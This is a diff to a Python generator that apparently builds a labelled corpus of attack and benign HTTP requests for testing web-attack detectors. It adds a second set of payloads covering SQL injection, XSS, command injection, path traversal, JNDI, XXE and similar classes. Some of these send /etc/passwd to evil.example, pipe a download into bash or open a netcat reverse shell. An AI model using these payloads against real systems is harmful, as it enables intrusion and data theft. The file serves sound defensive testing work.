@@ -93,6 +93,80 @@ PAYLOADS = {
     ],
 }
 
+# A second set per class, in other shapes (other databases and contexts,
+# other evasions, other template engines, other protocols), written after the
+# detectors of guests/policies/detect had been tuned on the first set: it
+# measures how far they generalise. Reported together with the first.
+MORE_PAYLOADS = {
+    "sqli": [
+        "1' AND 1=CONVERT(int,(SELECT @@version))--", "' OR 1=1#", "1 OR 1=1",
+        "x' AND extractvalue(1,concat(0x7e,version()))-- ", "1'; EXEC xp_cmdshell('dir')--",
+        "' UNION/**/SELECT/**/password/**/FROM/**/users--", "1 AND (SELECT 1 FROM (SELECT SLEEP(3))x)",
+        "') OR ('a'='a",
+    ],
+    "xss": [
+        "<img src=1 onerror=\"alert`1`\">", "<input autofocus onfocus=alert(1)>",
+        "<math><mtext><a xlink:href=javascript:alert(1)>x", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
+        "<marquee onstart=alert(1)>", "<video><source onerror=alert(1)>", "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+        "<form action=javascript:alert(1)><input type=submit>",
+    ],
+    "cmdi": [
+        "; sleep 10", "| nslookup evil.example", "x && curl -d @/etc/passwd evil.example",
+        "$(wget -qO- evil.example/s|bash)", "; /usr/bin/id", "a\nwhoami", "x || ping -n 3 127.0.0.1",
+        "() { :; }; /bin/cat /etc/passwd",
+    ],
+    "path_traversal": [
+        "../../../../../../etc/passwd%00.png", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "/etc/passwd",
+        "C:\\Windows\\System32\\drivers\\etc\\hosts", "....\\\\....\\\\boot.ini", "../../../../var/log/nginx/access.log",
+        "..%c0%af..%c0%af..%c0%afetc/passwd", "/static/../../../../root/.ssh/id_rsa",
+    ],
+    "rce_path": [
+        "cgi-bin/status?x=() { :; }; /bin/bash -c id", "%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}",
+        "index.php?x=<?php system('id'); ?>", "vendor/phpunit?cmd=%7Cid", "api?exec=$(uname -a)",
+        "run?c=;cat${IFS}/etc/passwd", "search?q={{7*'7'}}", "debug?code=__import__('os').system('id')",
+    ],
+    "ldap": [
+        "admin)(|(password=*)", "*)(objectClass=*))(&(objectClass=void", "x*)(|(cn=*", "*)(uid=*)(|(uid=*",
+        "jdoe)(|(telephoneNumber=*)", "*)(&(objectCategory=person)", "a)(|(sn=a*)(sn=b*)", "admin))(|(uid=*",
+    ],
+    "nosql": [
+        '{"$or": [{"a": 1}, {"b": 2}]}', '{"$where": "sleep(5000)"}', "true, $where: '1 == 1'",
+        "'; while(true){}; '", '{"$expr": {"$gt": ["$a", 0]}}', "'; sleep(5000); '",
+        '{"password": {"$regex": ".*"}}', '{"username": {"$gt": ""}, "password": {"$gt": ""}}',
+    ],
+    "ssti": [
+        "{{ self.__init__.__globals__ }}", "{{request.application.__globals__}}",
+        '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}', "${{7*7}}", "{{7*'7'}}",
+        "#set($x=7*7)$x", "@(7*7)", "{{range.constructor(\"return global.process.mainModule\")()}}",
+    ],
+    "ssi": [
+        '<!--#exec cmd="cat /etc/passwd"-->', '<!--#include file="/etc/passwd"-->', '<!--#set var="x" value="y"-->',
+        '<!--#if expr="$a = b"-->', '<!--#exec cmd="wget evil.example" -->', '<!--#flastmod file="index.html"-->',
+        '<!--#echo var="DATE_LOCAL"-->', 'x<!--#exec cmd="nc -e /bin/sh 203.0.113.5 4444"-->',
+    ],
+    "mail": [
+        "x@example.com\nTo: victim2@example.com", "subject\r\nContent-Type: text/html", "test\r\nBCC: a@evil.example",
+        "x\r\nEHLO evil.example", "INBOX\"\r\nA3 LIST \"\" \"*\"", "x\r\nQUIT", "hi\nReply-To: attacker@evil.example",
+        "box\r\nA9 STORE 1:* +FLAGS (\\Deleted)",
+    ],
+    "jndi": [
+        "${jndi:ldap://${env:USER}.evil.example/a}", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}",
+        "${jndi:${lower:r}mi://evil.example/b}", "${${upper:j}ndi:ldap://evil.example/c}",
+        "${jndi:ldap://127.0.0.1#evil.example:1389/a}", "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://evil.example/d}",
+        "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example/e}", "x-${jndi:iiop://evil.example/f}",
+    ],
+    "xxe": [
+        '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]><foo>&xxe;</foo>',
+        '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE x PUBLIC "-//x//EN" "http://evil.example/x.dtd"><x/>',
+        '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]><lolz>&lol2;</lolz>',
+        '<!DOCTYPE r [<!ELEMENT r ANY><!ENTITY % remote SYSTEM "http://evil.example/e.dtd">%remote;]><r/>',
+        '<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></r>',
+        '<?xml version="1.0"?><!DOCTYPE data [<!ENTITY file SYSTEM "file:///proc/self/environ">]><data>&file;</data>',
+        '<!DOCTYPE x [ <!ENTITY  y  SYSTEM  "netdoc:///etc/passwd" > ]><x>&y;</x>',
+        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % d SYSTEM "jar:http://evil.example/a.jar!/b.dtd">%d;]><r/>',
+    ],
+}
+
 # (plus large_json: the payload at the end of a 70 KB JSON body, two per class)
 PLACEMENTS = ["query", "form", "json", "xml", "graphql", "multipart", "path", "header", "user_agent"]
 ENCODINGS = ["plain", "url", "double_url", "base64", "js_unicode", "html_entity"]
@@ -183,20 +257,26 @@ def place(cls, value, placement, encoding):
 
 def attacks():
     out = []
-    for cls, payloads in PAYLOADS.items():
+    for cls in PAYLOADS:
+        payloads = PAYLOADS[cls] + MORE_PAYLOADS[cls]
         placements = XXE_PLACEMENTS if cls == "xxe" else PLACEMENTS
         for i, p in enumerate(payloads):
+            rows = []
             # Every payload, plain, in every placement.
             for pl in placements:
-                out.append(place(cls, p, pl, "plain"))
-            # The first two payloads of each class at the end of a 70 KB body.
-            if i < 2 and cls != "xxe":
-                out.append(place(cls, p, "large_json", "plain"))
+                rows.append(place(cls, p, pl, "plain"))
+            # The first two payloads of each set at the end of a 70 KB body.
+            if i % 8 < 2 and cls != "xxe":
+                rows.append(place(cls, p, "large_json", "plain"))
             # Every other encoding in three placements, rotating with the payload.
             for j, enc in enumerate(ENCODINGS[1:]):
                 for k in range(3 if cls != "xxe" else 1):
                     pl = placements[(i + j + 3 * k) % len(placements)]
-                    out.append(place(cls, encode(p, enc), pl, enc))
+                    rows.append(place(cls, encode(p, enc), pl, enc))
+            for r in rows:
+                r["payload"] = i
+                r["set"] = "first" if i < 8 else "second"
+            out += rows
     return out
 
 
@@ -229,6 +309,44 @@ SEARCHES = ["running shoes", "café au lait", "select comfort mattress", "union 
             "C++ primer", "1/2 inch pipe", "size 10-12", "where to buy", "grep tutorial", "Tom & Jerry", "100% cotton"]
 
 
+UAS = [
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
+    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
+    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
+    "curl/8.5.0", "python-requests/2.31.0", "okhttp/4.12.0", "Go-http-client/2.0",
+    "PostmanRuntime/7.37.3", "Stripe/1.0 (+https://stripe.com/docs/webhooks)",
+]
+MORE_SEARCHES = ["rock & roll", "AT&T phone case", "tom's diner", "50% off", "C# in depth", "<3 gifts",
+                 "a|b testing", "what is 2+2", "node.js (book)", "USB-C -> HDMI", "x = y + 1", "foo; bar",
+                 "sleep mask", "cat tree", "echo dot 5th gen", "find my phone", "id card holder", "kill bill dvd"]
+MORE_RICH = [
+    "<p>Screenshot:</p><p><img src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==\" alt=\"\"></p>",
+    "<p>Run <code>ls -la /tmp</code> then:</p><pre><code>curl -X POST https://api.example.com/v1/sync\n  -H 'Content-Type: application/json'</code></pre>",
+    "<p><span style=\"font-weight: bold; color: rgb(51, 51, 51)\">Important</span> &ndash; read <a href=\"mailto:billing@example.com\">billing</a></p>",
+    "<ol><li>Open <em>Settings</em></li><li>Click <u>Export</u></li></ol><hr><p class=\"small\">v2.3</p>",
+    "<p>Formula: <sup>2</sup>&frasl;<sub>3</sub> of the total &gt; 100 &amp; &lt; 200</p>",
+]
+MORE_SUPPORT = [
+    "Steps to reproduce:\n1. Run this:\n```\ncurl -X POST https://api.example.com/v1/payments -H 'Authorization: Bearer sk_test_x' -d amount=100\n```\n2. You get a 500; the body says nothing.",
+    "I tried restarting the worker; curl -v https://api.example.com/health still shows 503.",
+    "We added api.example.com to /etc/hosts and it works now, thanks!",
+    "Is there a way to export via CLI? e.g. `edgectl export --format csv > out.csv`",
+    "Our logs (see /var/log/app/error.log) show timeouts at 02:00 UTC.",
+    "The docs say: rm -rf node_modules && npm install. Did that, still broken.",
+    "Price shows as $(price) instead of the number on the checkout page",
+    "Hi team | quick question | can you enable SSO for us?",
+    "Select the plan, then union the two invoices into one? Where do I do that?",
+    "Our SQL export has 'O''Brien' twice; is the '--' in the notes column a problem?",
+]
+TEMPLATES = [
+    "Hi {{first_name}}, your invoice {{invoice.number}} of {{ amount | currency }} is due on {{due_date}}.",
+    "{% if customer.vip %}Thanks for being a VIP!{% else %}Thanks!{% endif %}",
+    "Dear ${customer.name}, your order #{order.id} ships on ${ship_date}.",
+    "Total: {{ subtotal + shipping }} ({{ items | size }} items)",
+    "<%= user.first_name %>, your code is <%= code %>",
+]
+
+
 def jreq(cat, method, target, obj, ctype="application/json"):
     return req("benign", cat, "json", "plain", method, target, [["Content-Type", ctype]],
                json.dumps(obj, ensure_ascii=False))
@@ -237,7 +355,9 @@ def jreq(cat, method, target, obj, ctype="application/json"):
 def benign_one(rnd, n):
     name, city, cur = rnd.choice(NAMES), rnd.choice(CITIES), rnd.choice(CURRENCIES)
     cid, amount = f"cus_{rnd.randrange(16**10):010x}", rnd.randrange(100, 500000)
-    k = n % 14
+    k = n % 20
+    if k >= 14:
+        return benign_more(rnd, n, k, name, city, cid)
     if k == 0:
         return jreq("payment_create", "POST", "/v1/payments", {
             "amount": amount, "currency": cur, "customer": cid, "description": f"Invoice {n} for {name}",
@@ -303,7 +423,44 @@ def benign_one(rnd, n):
     return jreq("bulk", "POST", "/v1/catalog/bulk", {"items": items})
 
 
-def benign(count=1400):
+def benign_more(rnd, n, k, name, city, cid):
+    """The benign kinds added with the second attack set: real user agents and
+    cookies, more search terms, rich text with inline images and code, support
+    messages with code blocks and paths, message templates, JSON Schema, forms
+    with punctuation and a CSV upload."""
+    if k == 14:
+        q = urllib.parse.quote(rnd.choice(MORE_SEARCHES))
+        return req("benign", "search_ua", "query", "plain", "GET", f"/api/v1/products?q={q}&limit=20",
+                   [["User-Agent", rnd.choice(UAS)], ["Accept", "application/json, text/plain, */*"],
+                    ["Cookie", f"_ga=GA1.2.{rnd.randrange(10**9)}.{rnd.randrange(10**9)}; theme=dark; "
+                               "session=eyJ1c2VyIjoiY3VzXzEyMyIsInJvbGUiOiJ2aWV3ZXIifQ"],
+                    ["Referer", "https://shop.example.com/search?q=" + q]])
+    if k == 15:
+        return jreq("rich_text", "POST", "/api/v1/notes", {"customer": cid, "body_html": rnd.choice(MORE_RICH)})
+    if k == 16:
+        return jreq("support", "POST", "/api/v1/tickets", {
+            "subject": "Problem with the API", "message": rnd.choice(MORE_SUPPORT), "requester": {"name": name}})
+    if k == 17:
+        return jreq("templates", "PUT", f"/v1/templates/tpl_{n}", {
+            "name": "invoice_due", "locale": "en-GB", "body": rnd.choice(TEMPLATES)})
+    if k == 18:
+        return jreq("json_schema", "POST", "/v1/schemas", {
+            "$schema": "https://json-schema.org/draft/2020-12/schema", "$id": f"https://example.com/s/{n}.json",
+            "type": "object", "required": ["email"],
+            "properties": {"email": {"type": "string", "pattern": "^[^@]+@[^@]+$"},
+                           "name": {"$ref": "#/$defs/name"}, "tags": {"type": "array", "maxItems": 10}}})
+    b = "----benignboundary" + str(n)
+    csv = "sku,name,price\n" + "".join(f"A-{i},{rnd.choice(SEARCHES + MORE_SEARCHES)},{rnd.randrange(1, 99)}\n"
+                                       for i in range(20))
+    body = (f"--{b}\r\nContent-Disposition: form-data; name=\"address\"\r\n\r\nFlat 3; 21 Baker St, {city}\r\n"
+            f"--{b}\r\nContent-Disposition: form-data; name=\"phone\"\r\n\r\n(555) 123-{rnd.randrange(1000, 9999)}\r\n"
+            f"--{b}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"Q3 results; draft.csv\"\r\n"
+            f"Content-Type: text/csv\r\n\r\n{csv}\r\n--{b}--\r\n")
+    return req("benign", "upload", "multipart", "plain", "POST", "/v1/imports",
+               [["Content-Type", f"multipart/form-data; boundary={b}"]], body)
+
+
+def benign(count=2000):
     rnd = random.Random(13)
     return [benign_one(rnd, n) for n in range(count)]
 
